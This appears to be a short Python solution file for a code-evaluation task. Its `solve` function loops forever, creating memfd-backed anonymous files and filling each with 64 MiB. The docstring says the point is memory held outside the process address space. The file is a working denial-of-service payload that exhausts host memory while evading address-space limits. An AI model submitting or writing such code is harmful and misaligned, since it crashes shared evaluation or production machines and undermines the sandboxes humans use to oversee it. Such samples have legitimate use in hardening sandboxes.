"""Memory behind a descriptor, outside the address space."""

import os


def solve(x):
    while True:
        fd = os.memfd_create('x')
        for _ in range(64):
            os.write(fd, bytes(1 << 20))
